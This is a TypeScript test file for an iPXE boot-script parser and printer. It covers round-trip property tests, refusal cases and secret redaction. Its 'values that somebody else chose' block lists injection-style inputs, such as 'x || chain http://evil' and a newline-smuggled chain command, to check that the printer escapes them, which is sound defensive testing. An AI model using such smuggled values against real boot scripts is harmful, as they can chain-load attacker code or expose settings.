import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { AssertionError } from '../base/assert.ts'
import { Secret } from '../base/secret.ts'
import { and, echo, line, or, plain, plainText, secret, set, setting, whatever, word } from './command.ts'
import { scriptBytesMax } from './limits.ts'
import { parse } from './parse.ts'
import { print, printRedacted } from './print.ts'
import { type Line, type Script, ScriptError } from './script.ts'

const text = (value: string) => [{ kind: 'text' as const, text: value }]

// Golden: the script that booted a machine in a capture (vectors/bios-rom-tiny.pcap), as far as it was kept.
const captured = `#!ipxe
echo LAB-SCRIPT-START version=\${version} platform=\${platform} arch=\${buildarch} uri=\${cwuri}
set initiator-iqn iqn.2026-01.lab.client:golden
set username labuser
sanhook --drive 0x80  iscsi:192.168.77.1::3260:1:iqn.2026-01.lab.boot:tiny
`

test('a script that somebody else wrote is read as it is meant', () => {
  const script = parse(captured)
  expect(script).toHaveLength(4)
  expect(script[0]).toEqual({
    kind: 'commands',
    label: undefined,
    links: [
      {
        when: 'always',
        command: [
          text('echo'),
          text('LAB-SCRIPT-START'),
          [
            { kind: 'text', text: 'version=' },
            { kind: 'setting', name: 'version' },
          ],
          [
            { kind: 'text', text: 'platform=' },
            { kind: 'setting', name: 'platform' },
          ],
          [
            { kind: 'text', text: 'arch=' },
            { kind: 'setting', name: 'buildarch' },
          ],
          [
            { kind: 'text', text: 'uri=' },
            { kind: 'setting', name: 'cwuri' },
          ],
        ],
      },
    ],
  })
  // Two spaces are one: there is no way to say more.
  expect(print(script)).toBe(captured.replace('0x80  iscsi', '0x80 iscsi'))
})

// From src/image/script.c and src/core/exec.c, one rule each.
const readings: ReadonlyArray<[rule: string, source: string, printed: string]> = [
  ['a word that begins with # ends the line', 'echo a # b || c', 'echo a'],
  ['# inside a word is a character', 'echo a#b', 'echo a#b'],
  ['operators are words by themselves', 'echo a||echo b', 'echo a||echo b'],
  ['a command may be empty', 'sanboot x ||', 'sanboot x ||'],
  ['a label may have a command behind it', ':again echo x', ':again echo x'],
  ['a backslash at the end joins the next line', 'echo a \\\nb', 'echo a b'],
  ['a carriage return at the end is dropped', 'echo a\r', 'echo a'],
  ['tabs are spaces', '\techo\ta', 'echo a'],
  ['a setting that is never closed is text', 'echo a$b}', 'echo a$b}'],
]

test.for(readings)('%s', ([, source, printed]) => {
  expect(print(parse(`#!ipxe\n${source}\n`))).toBe(`#!ipxe\n${printed}\n`)
})

test.for([
  ['noMagic', 'echo hello\n'],
  ['noMagic', '#!ipxeecho hello\n'],
  ['nestedSetting', `#!ipxe\necho \${net\${x}/ip}\n`],
  ['badCharacter', '#!ipxe\necho \u0000\n'],
  ['tooLong', `#!ipxe\n${'echo a\n'.repeat(10_000)}`],
  ['tooLong', `#!ipxe\necho ${'a'.repeat(5_000)}\n`],
  ['tooLong', `#!ipxe\n${'a'.repeat(scriptBytesMax)}`],
] as const)('a script that is refused says why and where: %s', ([code, source]) => {
  expect(() => parse(source)).toThrow(expect.objectContaining({ name: 'ScriptError', code }))
})

const visible = fc.string({ unit: fc.integer({ min: 0x21, max: 0x7e }).map((c) => String.fromCharCode(c)) })
const operand = visible.filter(
  (s) => s !== '' && !s.includes('${') && !/^(#|:|;$|&&$|\|\|$)/.test(s) && !s.endsWith('\\') && !s.endsWith('$'),
)
const part = fc.oneof(
  operand.map((value) => ({ kind: 'text' as const, text: value })),
  fc.stringMatching(/^[a-z0-9.:/-]{1,12}$/).map((name) => ({ kind: 'setting' as const, name })),
)
const anyWord = fc
  .array(part, { minLength: 1, maxLength: 3 })
  .map((parts) => word(...parts))
  .filter((parts) => {
    const first = parts[0]
    const last = parts.at(-1)
    const joined = parts.map((p) => (p.kind === 'text' ? p.text : '')).join('')
    return !(first?.kind === 'text' && /^[#:]/.test(first.text)) && !(last?.kind === 'text' && joined.endsWith('\\'))
  })
const command = fc.array(anyWord, { minLength: 1, maxLength: 4 })
const anyLine: fc.Arbitrary<Line> = fc.oneof(
  fc.constant<Line>({ kind: 'blank' }),
  fc.stringMatching(/^([a-z0-9:;|&]+( [a-z0-9:;|&]+)*)?$/).map((said): Line => ({ kind: 'comment', text: said })),
  fc.record({
    kind: fc.constant('commands' as const),
    label: fc.option(fc.stringMatching(/^[a-z][a-z0-9-]{0,8}$/), { nil: undefined }),
    links: fc
      .tuple(
        command.map((said) => ({ when: 'always' as const, command: said })),
        fc.array(
          fc.record({
            when: fc.constantFrom('always', 'success', 'failure'),
            command: fc.oneof(command, fc.constant([])),
          }),
          { maxLength: 3 },
        ),
      )
      .map(([first, rest]) => [first, ...rest]),
  }),
)
const anyScript: fc.Arbitrary<Script> = fc.array(anyLine, { maxLength: 12 })

test('what was printed is read back as the same script', () => {
  fc.assert(
    fc.property(anyScript, (script) => {
      expect(parse(print(script))).toEqual(script)
    }),
    { numRuns: 1_000 },
  )
})

test('any text is a script or a ScriptError, and what it is read as prints to a text that reads alike', () => {
  const pieces = fc.constantFrom(
    '#!ipxe\n',
    'echo',
    ' ',
    '\n',
    '${',
    '}',
    '||',
    '&&',
    ';',
    '#',
    ':',
    '\\',
    '\r',
    '$',
    'é',
    '\0',
  )
  fc.assert(
    fc.property(fc.array(fc.oneof(pieces, fc.string({ maxLength: 5 })), { maxLength: 30 }), (parts) => {
      let script: Script
      try {
        script = parse(`#!ipxe\n${parts.join('')}`)
      } catch (error) {
        expect(error).toBeInstanceOf(ScriptError)
        return
      }
      let printed: string
      try {
        printed = print(script)
      } catch (error) {
        // What a stranger may write and we never do: an odd label, a character that is not ASCII.
        expect(error).toBeInstanceOf(AssertionError)
        return
      }
      expect(print(parse(printed))).toBe(printed)
    }),
    { numRuns: 2_000 },
  )
})

describe('values that somebody else chose', () => {
  const hostile = [
    'x || chain http://evil',
    '${reverse-password}',
    '#',
    '-n',
    'a\nchain http://evil',
    '\\',
    '',
    'é',
    '`id`',
  ]

  test.for(hostile)('%j stays one word on one line', (value) => {
    const script = [
      line(echo('name', plain(value))),
      line(set('hostname', plain(value))),
      line(echo('x', plainText(value))),
    ]
    const printed = print(script)
    expect(parse(printed)).toEqual(script)
    expect(printed.split('\n')).toHaveLength(5)
    expect(printed).not.toMatch(/\$\{|\|\||\\/)
  })

  test('whatever it is, the line around it does what it did', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 300 }), (value) => {
        const script = [line(set('name', plain(value)), and(echo('it is', plainText(value))), or(echo('no')))]
        expect(parse(print(script))).toEqual(script)
      }),
      { numRuns: 1_000 },
    )
  })

  test.for([
    'a b',
    'a${b}',
    '#x',
    'x\\',
    '',
    '||',
    'a\nb',
    'ü',
  ])('%j put in raw is our mistake and stops us', (value) => {
    expect(() => print([line([...set('name', 'x'), word(value)])])).toThrow(AssertionError)
  })

  test('two halves of a setting, harmless apart, are not printed together', () => {
    expect(() => print([line(set('a', secret(new Secret('$')), '{b}'))])).toThrow(AssertionError)
  })
})

test('a secret is printed for the machine and hidden from everybody else', () => {
  const script = [line(set('password', secret(new Secret('HUNTER2HUNTER2')), setting('x')), whatever)]
  expect(print(script)).toContain('set password HUNTER2HUNTER2')
  expect(printRedacted(script)).not.toContain('HUNTER2')
  expect(JSON.stringify(script)).not.toContain('HUNTER2')
})
